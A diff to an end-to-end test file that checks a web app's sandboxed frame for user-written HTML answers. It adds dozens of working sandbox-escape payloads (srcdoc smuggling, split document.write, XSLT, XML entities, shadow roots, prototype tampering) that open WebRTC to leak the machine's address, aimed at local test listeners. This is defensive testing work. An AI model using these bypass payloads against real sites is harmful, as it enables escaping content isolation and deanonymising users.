@@ -13,6 +13,7 @@ import { findChromium } from '../../scripts/setup/chromium.ts'
 import { drawPage } from '../../server/web-answers/draw-answers.ts'
 import { readPrices } from '../../server/platform/providers/index.ts'
 import { checkArena, importInto } from '../../server/transfer/index.ts'
+import { WEB_ANSWER_FRAME } from '../../shared/web-answers/web-document.ts'
 import { temporaryFolder } from '../support/temporary-folder.ts'
 import { arenaOfKind } from './kinds-of-text.ts'
 import { openSite, PHONE, WIDE, type Site } from './site.ts'
@@ -23,18 +24,16 @@ let outside: Server
 /** What reached a server that is not Deadheat's. */
 const reached: string[] = []
 let away = ''
-let datagrams: Socket
 
 beforeAll(async () => {
   outside = createServer(({ url }, response) => {
-    reached.push(url ?? '')
+    if (url !== UNGUARDED) reached.push(url ?? '')
     response.setHeader('access-control-allow-origin', '*')
-    response.end('outside')
+    if (url === UNGUARDED) response.setHeader('content-type', 'text/html')
+    response.end(url === UNGUARDED ? WITHOUT_GUARD : 'outside')
   })
   await new Promise<void>((listening) => outside.listen(0, '127.0.0.1', listening))
   away = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
-  datagrams = createSocket('udp4').on('message', () => reached.push('a datagram'))
-  await new Promise<void>((bound) => datagrams.bind(0, '127.0.0.1', bound))
   site = await openSite()
   for (const [key, text] of Object.entries(attacks()))
     await importInto(site.app.deps, {
@@ -57,18 +56,133 @@ beforeAll(async () => {
 afterAll(async () => {
   await site?.close()
   outside.close()
-  datagrams.close()
 })
 
 const page = (body: string) => `<!doctype html><html><body><h1>Ran</h1>${body}</body></html>`
 const PLAIN = page('<p>Plain</p>')
 
+/** The frame of an answer without what keeps one from the network. */
+const [UNGUARDED, WITHOUT_GUARD] = [
+  '/unguarded',
+  `<!doctype html><script>addEventListener('message', ({ data }) => { document.open(); document.write(data); document.close() }, { once: true })</script>`,
+]
+
 /** Asks a server of its own choice for this machine's address. */
 const PEER_AT = (port: number) =>
-  `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))`
+  `{ const p = new RTCPeerConnection({ iceServers: [{ urls: \`stun:127.0.0.1:${port}\` }] }); p.createDataChannel(\`x\`); p.createOffer().then((offer) => p.setLocalDescription(offer)) }`
+
+/** What the tries below share: texts of a frame with scripts, and that frame made of nodes. */
+const PEER_TOOLS = (peer: string) => `
+  const b = document.body, W = 'src' + 'doc', D = '<script>${peer}</' + 'script>', H = '<iframe ' + W + '="' + D + '"></iframe>'
+  const X = 'http://www.w3.org/1999/xhtml', S = '<template shadowroot' + 'mode="open"><i></i></template>'
+  const make = (name, d = document) => d.createElementNS(X, name), bare = () => make('iframe'), inert = () => document.implementation.createHTMLDocument()
+  const named = (d = document) => { const a = d.createAttribute(W); a.value = D; return a }
+  const node = (d = document) => { const f = make('iframe', d); f.setAttributeNode(named(d)); return f }
+  const xml = (text) => new DOMParser().parseFromString(text, 'text/xml')
+  const styled = () => { const p = new XSLTProcessor(); p.importStylesheet(xml('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><div><iframe><xsl:attribute name="{concat(' + "'src','doc'" + ')}">' + D.replace(/</g, '&lt;') + '</xsl:attribute></iframe></div></xsl:template></xsl:stylesheet>')); return p }
+  const shadow = (host, options) => host.attachShadow({ mode: 'closed', ...options })
+  const busy = () => { for (const from = performance.now(); performance.now() - from < 500; ); }
+  const take = (w) => { const { RTCPeerConnection } = w; ${peer} }
+  const put = (html) => { b.insertAdjacentHTML('beforeend', html); return b.lastChild }
+`
+/** Ways to a realm that has WebRTC: each works where nothing guards. */
+const PEER_TRIES = {
+  self: 'take(window)',
+  property: 'const f = bare(); f[W] = D; b.append(f)',
+  attribute: 'const f = bare(); f.setAttribute(W, D); b.append(f)',
+  'attribute without namespace': 'const f = bare(); f.setAttributeNS(null, W, D); b.append(f)',
+  'attribute of a frame in the page': 'const f = bare(); b.append(f); f.setAttribute(W, D)',
+  'attribute in an inert document':
+    'const f = inert().createElement("iframe"); f.setAttribute(W, D); b.append(document.adoptNode(f))',
+  'attribute in an XML document':
+    'const f = make("iframe", new Document()); f.setAttribute(W, D); b.append(f)',
+  'split writes': `document.write('<iframe src'); document.write('doc="' + D + '"></iframe>')`,
+  'writes of single letters': 'for (const c of H) document.write(c)',
+  'split writes into a new page':
+    'setTimeout(() => { document.open(); for (const c of H) document.write(c); document.close() }, 50)',
+  'split writes into an inert document':
+    'const d = inert(); d.open(); for (const c of H) d.write(c); d.close(); b.append(d.querySelector("iframe"))',
+  'attribute node': 'b.append(node())',
+  'attribute node, inserted before': 'b.insertBefore(node(), b.firstChild)',
+  'attribute node of a frame in the page': 'const f = bare(); b.append(f); f.setAttributeNode(named())',
+  'attribute node without namespace':
+    'const f = bare(), a = document.createAttributeNS(null, W); a.value = D; f.setAttributeNodeNS(a); b.append(f)',
+  'attribute node in the list': 'const f = bare(); f.attributes.setNamedItem(named()); b.append(f)',
+  'attribute node in the list, without namespace':
+    'const f = bare(); f.attributes.setNamedItemNS(named()); b.append(f)',
+  'attribute node of another element':
+    'const d = make("b"), f = bare(); d.setAttribute(W, D); f.setAttributeNode(d.removeAttributeNode(d.attributes[0])); b.append(f)',
+  'value of an attribute node':
+    'const f = bare(); f.toggleAttribute(W); f.attributes[0].nodeValue = D; b.append(f)',
+  'attribute node with its own name':
+    'const a = named(), f = bare(); Object.defineProperty(a, "localName", { value: "x" }); f.setAttributeNode(a); b.append(f)',
+  '50 clones': 'const f = node(); for (let n = 0; n < 50; n++) b.append(f.cloneNode(true))',
+  'imported node': 'b.append(document.importNode(node(new Document()), true))',
+  'adopted node': 'b.append(document.adoptNode(node(inert())))',
+  'template contents':
+    'const t = make("template"); t.content.append(node(t.content.ownerDocument)); b.append(t.content.cloneNode(true))',
+  'template text': 'const t = make("template"); t.innerHTML = H; b.append(t.content)',
+  innerHTML: 'b.innerHTML = H',
+  outerHTML: 'const d = make("div"); b.append(d); d.outerHTML = H',
+  'contextual fragment': 'b.append(document.createRange().createContextualFragment(H))',
+  'inert text': 'const d = inert(); d.body.innerHTML = H; b.append(d.querySelector("iframe"))',
+  DOMParser: 'b.append(new DOMParser().parseFromString(H, "text/html").querySelector("iframe"))',
+  'default of an XML attribute': `b.append(xml('<!DOCTYPE r [<!ENTITY % d "<!ATTLIST iframe &#115;rcdoc CDATA \\'' + D.replace(/</g, '&#38;#60;') + '\\'>">%d;]><r><iframe xmlns="' + X + '"/></r>').getElementsByTagNameNS(X, 'iframe')[0])`,
+  'a command of editing':
+    'b.contentEditable = true; getSelection().selectAllChildren(b); document.execCommand("insertHTML", false, H)',
+  'style sheet': 'b.append(styled().transformToFragment(xml("<a/>"), document))',
+  'document of a style sheet': 'b.append(styled().transformToDocument(xml("<a/>")).querySelector("iframe"))',
+  'closed shadow root': 'const d = make("div"); shadow(d).append(node()); b.append(d)',
+  'shadow root in a shadow root':
+    'const d = make("div"), e = make("p"); shadow(e).append(node()); shadow(d).append(e); b.append(d)',
+  'clone of a shadow root':
+    'const d = make("div"); d.attachShadow({ mode: "open", clonable: true }); Object.prototype.clonable = true; const e = d.cloneNode(true); b.append(e); e.shadowRoot.append(node())',
+  'declared shadow root':
+    'const d = make("div"); b.append(d); d.setHTMLUnsafe("<p>" + S + "</p>"); d.firstChild.shadowRoot.append(node())',
+  'parsed shadow root':
+    'const p = Document.parseHTMLUnsafe("<p>" + S + "</p>").querySelector("p"); b.append(p); p.shadowRoot.append(node())',
+  'written shadow root': `document.write('<p id="h"><template shadow'); document.write('rootmode="open"><i></i></template></p>'); h.shadowRoot.append(node())`,
+  'picture with HTML':
+    'const [g, o] = ["svg", "foreignObject"].map((n) => document.createElementNS("http://www.w3.org/2000/svg", n)); g.append(o); o.append(node()); b.append(g)',
+  'new root': 'const h = make("html"); h.append(node()); document.replaceChild(h, document.documentElement)',
+  frameset: 'const f = make("frameset"); f.append(node()); b.replaceWith(f)',
+  'address of script': 'const f = bare(); f.src = "javascript:" + D.slice(8, -9); b.append(f)',
+  'moved frame': 'const d = make("div"), f = node(); b.append(d, f); d.moveBefore(f, null)',
+  'busy script': 'b.append(node()); busy()',
+  'busy script beside a sandbox':
+    'const f = node(); f.sandbox = "allow-scripts"; f.credentialless = true; b.append(f); busy()',
+  'replaced functions of text':
+    'String.prototype.replace = function () { return String(this) }; RegExp.prototype[Symbol.replace] = (text) => text; RegExp.prototype.exec = () => null; b.innerHTML = H',
+  'replaced functions of nodes':
+    'const d = make("div"), f = node(), none = () => null; for (const { prototype: p } of [Element, Document, DocumentFragment]) p.remove = p.querySelector = p.querySelectorAll = none; Reflect.apply = Function.prototype.call = none; MutationObserver = Array; String.prototype.toLowerCase = none; const r = shadow(d); r.append(f); b.append(d); b.append(node())',
+  'window, appended': 'const f = bare(); b.append(f); take(f.contentWindow)',
+  'window, inserted before': 'const f = bare(); b.insertBefore(f, null); take(window[0])',
+  'window of text': 'take(put("<iframe></iframe>").contentWindow)',
+  'window of text, allowed more': `take(put('<iframe sandbox="allow-scripts allow-same-origin" allow="*"></iframe>').contentWindow)`,
+  'window, written': `document.write('<iframe id="q"></iframe>'); take(q.contentWindow)`,
+  'window, adopted': 'const f = document.adoptNode(make("iframe", inert())); b.append(f); take(frames[0])',
+  'window of an attribute node':
+    'const f = bare(); f.setAttributeNode(document.createAttribute("name")); b.append(f); take(f.contentDocument.defaultView)',
+  'window of a style sheet': 'b.append(styled().transformToFragment(xml("<a/>"), document)); take(window[0])',
+  'document of a frame': 'const f = bare(); b.append(f); f.contentDocument.write(D)',
+}
+/** Those that need markup beside the script. */
+const PEER_PAGES = (peer: string): Record<string, string> => ({
+  ...Object.fromEntries(
+    Object.entries(PEER_TRIES).map(([way, tried]) => [
+      way,
+      `<script>{${PEER_TOOLS(peer)};${tried}}</script>`,
+    ]),
+  ),
+  markup: `<iframe srcdoc="<script>${peer}</script>"></iframe>`,
+  'written start': `<script>document.write('<iframe src')</script>doc="<script>${peer}</script>"></iframe>`,
+  'written start in a written shadow root': `<script>document.write('<p><template shadow')</script>rootmode="open"><script>document.write('<iframe src')</script>doc="<script>${peer}</script>"></iframe></template>`,
+  'shadow root in markup': `<p id="h"><template shadowrootmode="open"></template></p><script>${PEER_TOOLS(peer)}; h.shadowRoot.append(node())</script>`,
+  'module after a wait': `<script type="module">${PEER_TOOLS(peer)}; await new Promise((later) => setTimeout(later, 50)); b.append(node())</script>`,
+})
 
 /** Each writes into its own title what it achieved. */
-const attacks = (peer = PEER_AT(datagrams.address().port)) => ({
+const attacks = () => ({
   harmless: '<script>document.title = "ran " + origin</script><button>Tie</button>',
   reads: `<script>
     const tries = {
@@ -90,14 +204,11 @@ const attacks = (peer = PEER_AT(datagrams.address().port)) => ({
       try { new Worker('data:text/javascript,fetch("${away}/worker")') } catch {}
       const inner = document.createElement('iframe'); inner.srcdoc = '<img src="${away}/inner">'; document.body.append(inner)
     </script>`,
-  peers: `<iframe srcdoc="<script>${peer}</script>"></iframe><div id="d"></div><script>
-    try { ${peer} } catch {}
-    const inner = document.createElement('iframe'); inner.srcdoc = '<script>${peer}<\\/script>'; document.body.append(inner)
-    d.innerHTML = '<iframe src' + 'doc="<script>${peer}<\\/script>"></iframe>'
-    const set = document.createElement('iframe'); set.setAttribute('src' + 'doc', '<script>${peer}<\\/script>'); d.append(set)
-    const bare = document.createElement('iframe'); d.append(bare)
-    try { const { RTCPeerConnection } = bare.contentWindow; ${peer} } catch {}
-  </script>`,
+  // the last of them starts the page anew
+  writes: `<h2 id="t"></h2><script>document.write('<table><tr>'); for (const n of [1, 2]) document.write('<td>', n); document.writeln('</table>')</script>
+    <p id="p"></p><script>p.innerHTML = '<b>inner</b>'; p.attachShadow({ mode: 'open' }).innerHTML = '<i>shadow</i><slot></slot>'
+    t.textContent = [document.querySelectorAll('table').length, document.querySelector('tr').cells.length, p.innerText].join()
+    const said = t.textContent; setTimeout(() => { document.open(); document.write('<h1>Ran</h1>'); document.write('<p>' + said); document.close() }, 300)</script>`,
   leaves: `<meta http-equiv="refresh" content="0;url=${away}/refresh">
     <script>setTimeout(() => { location = '${away}/self' }, 50); try { top.location = '${away}/top' } catch {}</script>`,
   talks: `<script>alert('Vote left'); confirm('Left?'); prompt('Token?'); print()
@@ -199,7 +310,7 @@ test('an answer reads nothing of the page and opens nothing', async () => {
 })
 
 test('an answer reaches no network, also not by leaving', async () => {
-  for (const arena of ['calls', 'leaves', 'peers']) {
+  for (const arena of ['calls', 'leaves']) {
     const view = await voting(arena)
     if (arena !== 'leaves') await trying(view)
     await view.waitForTimeout(1000)
@@ -207,6 +318,47 @@ test('an answer reaches no network, also not by leaving', async () => {
     await vote(view)
   }
   expect(reached).toEqual([])
+})
+
+test('no way to another realm lets an answer use WebRTC, and each does without the guard', async () => {
+  const view = await site.visit('/a/harmless/vote', { viewport: WIDE })
+  const open: Socket[] = []
+  const sent = async (address: string, sandbox: string | null) => {
+    const counts: Record<string, number> = {}
+    for (const way of Object.keys(PEER_PAGES(''))) {
+      counts[way] = 0
+      const socket = createSocket('udp4').on('message', () => counts[way]!++)
+      open.push(socket)
+      await new Promise<void>((bound) => socket.bind(0, '127.0.0.1', bound))
+      const text = page(PEER_PAGES(PEER_AT(socket.address().port))[way]!)
+      const given = JSON.stringify({ address, sandbox, text })
+      await view.evaluate(`(async ({ address, sandbox, text }) => {
+        const frame = document.createElement('iframe')
+        if (sandbox !== null) frame.setAttribute('sandbox', sandbox)
+        frame.src = address
+        document.body.append(frame)
+        await new Promise((loaded) => (frame.onload = loaded))
+        frame.contentWindow.postMessage(text, '*')
+      })(${given})`)
+    }
+    return counts
+  }
+  const inFrame = await sent(WEB_ANSWER_FRAME, 'allow-scripts')
+  await view.waitForTimeout(3000)
+  expect(Object.entries(inFrame).filter(([, count]) => count > 0)).toEqual([])
+  await view.goto(`${away}${UNGUARDED}`)
+  const without = await sent(UNGUARDED, null)
+  await expect
+    .poll(() => Object.keys(without).filter((way) => without[way] === 0), { timeout: 20_000 })
+    .toEqual([])
+  expect(Object.entries(inFrame).filter(([, count]) => count > 0)).toEqual([])
+  for (const socket of open) socket.close()
+})
+
+test('an answer may write pieces, set HTML and have shadow roots', async () => {
+  const frame = await trying(await voting('writes'))
+  await frame.locator('p').getByText('1,2,inner').waitFor({ timeout: 20_000 })
+  expect(await frame.locator('table').count()).toBe(0)
 })
 
 test('an answer can be used with the keyboard, and voting goes on beside it', async () => {
@@ -297,9 +449,9 @@ describe('drawn for judges', () => {
       `alert(1); if (confirm('?') || prompt('?')) red(); print()`,
     ])
       expect((await drawn(tried(script)))?.equals(nothing!), script).toBe(true)
-    const { calls, leaves, peers } = attacks()
+    const { calls, leaves } = attacks()
     const self = `<script>location = '${away}/at-once'</script>`
-    for (const text of [calls, leaves, peers, self]) expect(await drawn(text)).not.toBeNull()
+    for (const text of [calls, leaves, self]) expect(await drawn(text)).not.toBeNull()
     expect(reached).toEqual([])
   })
 
